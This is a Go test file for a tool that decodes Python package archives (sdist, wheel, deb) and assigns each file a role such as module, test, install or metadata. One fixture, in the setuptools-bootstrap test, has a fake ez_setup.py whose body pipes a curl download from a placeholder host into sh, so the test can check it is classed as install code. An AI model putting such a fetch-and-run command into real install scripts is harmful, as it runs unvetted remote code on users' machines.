package dataset

import (
	"fmt"
	"sort"
	"strings"
	"testing"
)

// rolesOf lists "path role modpath" for every file, sorted.
func rolesOf(p *Package) []string {
	var out []string
	for _, f := range p.Files {
		out = append(out, fmt.Sprintf("%s %s %s", f.Path, f.Role, f.ModPath))
	}
	sort.Strings(out)
	return out
}

// moduleView is the module files by ModPath with their bytes: what every
// form of one package must agree on.
func moduleView(p *Package) map[string]string {
	m := map[string]string{}
	for _, f := range p.Files {
		if f.Role == RoleModule {
			m[f.ModPath] = string(f.Data)
		}
	}
	return m
}

// The same package, "foo" with a subpackage, its tests and data, in every
// form and layout: the module view must be the same, the rest must get the
// role the rule gives.
func TestRolesAcrossForms(t *testing.T) {
	module := map[string]string{
		"foo/__init__.py":        "from .core import run\n",
		"foo/core.py":            "def run():\n    return 1\n",
		"foo/data/table.json":    "{}\n",
		"foo/tests/__init__.py":  "",
		"foo/tests/test_core.py": "def test_run():\n    assert True\n",
		"helper.py":              "X = 1\n",
	}
	pkgInfo := "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n"
	sdistExtra := map[string]string{
		"PKG-INFO":                 pkgInfo,
		"setup.py":                 "from setuptools import setup\nsetup()\n",
		"setup.cfg":                "[metadata]\nname = foo\n",
		"pyproject.toml":           "[build-system]\nrequires = ['setuptools']\n",
		"README.rst":               "foo\n",
		"LICENSE":                  "MIT\n",
		"MANIFEST.in":              "include README.rst\n",
		"tox.ini":                  "[tox]\n",
		"noxfile.py":               "import nox\n",
		"conftest.py":              "",
		"tests/test_foo.py":        "import foo\n",
		"docs/conf.py":             "project = 'foo'\n",
		"examples/demo.py":         "import foo\n",
		".github/workflows/ci.yml": "on: push\n",
		"scripts/foo-cli":          "#!/usr/bin/env python\n",
		"foo.egg-info/PKG-INFO":    pkgInfo,
		"foo.egg-info/SOURCES.txt": "setup.py\n",
		"testing/helper.py":        "",
		"benchmarks/bench_core.py": "",
	}
	want := map[string]Role{
		"PKG-INFO": RoleMetadata, "setup.py": RoleInstall, "setup.cfg": RoleInstall, "pyproject.toml": RoleInstall,
		"README.rst": RoleOther, "LICENSE": RoleOther, "MANIFEST.in": RoleOther, "tox.ini": RoleOther,
		"noxfile.py": RoleOther, "conftest.py": RoleTest, "tests/test_foo.py": RoleTest, "docs/conf.py": RoleDoc,
		"examples/demo.py": RoleExample, ".github/workflows/ci.yml": RoleOther, "scripts/foo-cli": RoleOther,
		"foo.egg-info/PKG-INFO": RoleMetadata, "foo.egg-info/SOURCES.txt": RoleMetadata,
		"testing/helper.py": RoleTest, "benchmarks/bench_core.py": RoleTest,
		"foo/tests/__init__.py": RoleTest, "foo/tests/test_core.py": RoleTest,
	}
	wantModule := map[string]string{}
	for p, b := range module {
		if _, ok := want[p]; !ok {
			wantModule[p] = b
		}
	}

	var sdistFlat, sdistSrc []tarEntry
	for p, b := range sdistExtra {
		sdistFlat = append(sdistFlat, tarEntry{name: "foo-1.0/" + p, body: b})
		if strings.HasPrefix(p, "foo.egg-info/") {
			p = "src/" + p
		}
		sdistSrc = append(sdistSrc, tarEntry{name: "foo-1.0/" + p, body: b})
	}
	var wheel []zipEntry
	var deb []tarEntry
	for p, b := range module {
		sdistFlat = append(sdistFlat, tarEntry{name: "foo-1.0/" + p, body: b})
		sdistSrc = append(sdistSrc, tarEntry{name: "foo-1.0/src/" + p, body: b})
		wheel = append(wheel, zipEntry{name: p, body: b})
		deb = append(deb, tarEntry{name: debRoot + p, body: b})
	}
	wheel = append(wheel,
		zipEntry{name: "foo-1.0.dist-info/METADATA", body: pkgInfo},
		zipEntry{name: "foo-1.0.dist-info/WHEEL", body: "Wheel-Version: 1.0\n"},
		zipEntry{name: "foo-1.0.dist-info/RECORD", body: ""},
		zipEntry{name: "foo-1.0.data/scripts/foo-cli", body: "#!python\n"},
	)
	deb = append(deb, tarEntry{name: debRoot + "foo-1.0.egg-info/PKG-INFO", body: pkgInfo})
	sort.Slice(sdistFlat, func(i, j int) bool { return sdistFlat[i].name < sdistFlat[j].name })
	sort.Slice(sdistSrc, func(i, j int) bool { return sdistSrc[i].name < sdistSrc[j].name })

	forms := []struct {
		name, file string
		data       []byte
		format     string
	}{
		{"sdist flat", "foo-1.0.tar.gz", gzipBytes(t, buildTar(t, sdistFlat...)), "sdist-tar.gz"},
		{"sdist src", "foo-1.0.tar.gz", gzipBytes(t, buildTar(t, sdistSrc...)), "sdist-tar.gz"},
		{"wheel", "foo-1.0-py3-none-any.whl", buildZip(t, wheel...), "wheel"},
		{"deb", "python3-foo_1.0-1_all.deb", buildDeb(t, "data.tar", buildTar(t, deb...)), "deb"},
	}
	for _, fm := range forms {
		t.Run(fm.name, func(t *testing.T) {
			p, err := Decode("x", fm.file, fm.data, Limits{})
			if err != nil {
				t.Fatal(err)
			}
			if p.Format != fm.format {
				t.Errorf("format %s, want %s", p.Format, fm.format)
			}
			if got := moduleView(p); fmt.Sprint(got) != fmt.Sprint(wantModule) {
				t.Errorf("module view:\n got %v\nwant %v", got, wantModule)
			}
			for _, f := range p.Files {
				rel := strings.TrimPrefix(f.Path, "src/")
				if r, ok := want[rel]; ok && f.Role != r {
					t.Errorf("%s: role %s, want %s", f.Path, f.Role, r)
				}
				if strings.Contains(f.Path, ".dist-info/") && f.Role != RoleMetadata {
					t.Errorf("%s: role %s, want metadata", f.Path, f.Role)
				}
				if strings.Contains(f.Path, ".data/scripts/") && f.Role != RoleOther {
					t.Errorf("%s: role %s, want other", f.Path, f.Role)
				}
			}
			if t.Failed() {
				t.Logf("roles:\n%s", strings.Join(rolesOf(p), "\n"))
			}
		})
	}
}

// TestRoleRule covers the rule's edge cases on bare file lists.
func TestRoleRule(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files []string
		want  map[string]string // path -> "role modpath"
	}{
		{"regular packages keep tooling names", []string{"build/__init__.py", "build/env.py", "tasks/__init__.py", "tools/x.py"},
			map[string]string{"build/__init__.py": "module build/__init__.py", "build/env.py": "module build/env.py",
				"tasks/__init__.py": "module tasks/__init__.py", "tools/x.py": "other "}},
		{"namespace package without __init__", []string{"backports/html/__init__.py", "backports/html/entities.py"},
			map[string]string{"backports/html/__init__.py": "module backports/html/__init__.py", "backports/html/entities.py": "module backports/html/entities.py"}},
		{"folder without python is other", []string{"artwork/logo.png", "ext/speedups.c", "pkg/__init__.py", "pkg/_speedups.c"},
			map[string]string{"artwork/logo.png": "other ", "ext/speedups.c": "other ", "pkg/_speedups.c": "module pkg/_speedups.c"}},
		{"root extension modules and pth files", []string{"_scandir.pyd", "_ruamel_yaml.so", "ruamel.yaml-nspkg.pth", "six.py", "README"},
			map[string]string{"_scandir.pyd": "module _scandir.pyd", "_ruamel_yaml.so": "module _ruamel_yaml.so",
				"ruamel.yaml-nspkg.pth": "module ruamel.yaml-nspkg.pth", "six.py": "module six.py", "README": "other "}},
		{"src package named src is not a layout", []string{"src/__init__.py", "src/a.py"},
			map[string]string{"src/a.py": "module src/a.py"}},
		{"wheel data", []string{"x-1.data/purelib/x/__init__.py", "x-1.data/platlib/_x.so", "x-1.data/data/share/x.txt", "x-1.data/headers/x.h"},
			map[string]string{"x-1.data/purelib/x/__init__.py": "module x/__init__.py", "x-1.data/platlib/_x.so": "module _x.so",
				"x-1.data/data/share/x.txt": "other ", "x-1.data/headers/x.h": "other "}},
		{"old egg-info file and nested metadata", []string{"foo.egg-info", "pkg/__init__.py", "pkg/_vendor/six-1.0.dist-info/RECORD"},
			map[string]string{"foo.egg-info": "metadata ", "pkg/_vendor/six-1.0.dist-info/RECORD": "metadata "}},
		{"test files in a package", []string{"pkg/__init__.py", "pkg/test_util.py", "pkg/util_test.py", "pkg/testing/__init__.py"},
			map[string]string{"pkg/test_util.py": "test ", "pkg/util_test.py": "test ", "pkg/testing/__init__.py": "module pkg/testing/__init__.py"}},
		{"install tooling at the root only", []string{"setup.py", "versioneer.py", "pkg/__init__.py", "pkg/setup.py"},
			map[string]string{"setup.py": "install ", "versioneer.py": "install ", "pkg/setup.py": "module pkg/setup.py"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := make([]File, len(tc.files))
			for i, p := range tc.files {
				files[i] = File{Path: p}
			}
			assignRoles(files)
			for _, f := range files {
				if w, ok := tc.want[f.Path]; ok {
					if got := string(f.Role) + " " + f.ModPath; got != w {
						t.Errorf("%s: %q, want %q", f.Path, got, w)
					}
				}
			}
		})
	}
}

// A pyproject.toml's backend-path folders are install code.
func TestRolesBackendPath(t *testing.T) {
	files := []File{
		{Path: "pyproject.toml", Data: []byte("[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_custom_build\", 'tools/b']\n")},
		{Path: "_custom_build/backend.py"},
		{Path: "tools/b/x.py"},
		{Path: "pkg/__init__.py"},
	}
	assignRoles(files)
	for i, want := range []Role{RoleInstall, RoleInstall, RoleInstall, RoleModule} {
		if files[i].Role != want {
			t.Errorf("%s: %s, want %s", files[i].Path, files[i].Role, want)
		}
	}
}

// The setuptools bootstrap is vendored tooling; a file of that name that is
// not the bootstrap stays install code.
func TestRolesSetuptoolsBootstrap(t *testing.T) {
	boot := "DEFAULT_URL = \"http://pypi.python.org/packages/source/d/distribute/\"\ndef use_setuptools(version):\n    pass\n"
	files := []File{
		{Path: "distribute_setup.py", Data: []byte(boot)},
		{Path: "ez_setup.py", Data: []byte("import os\nos.system('curl http://x | sh')\n")},
		{Path: "pkg/__init__.py"},
	}
	assignRoles(files)
	if files[0].Role != RoleOther || files[1].Role != RoleInstall {
		t.Errorf("roles %s, %s; want other, install", files[0].Role, files[1].Role)
	}
}
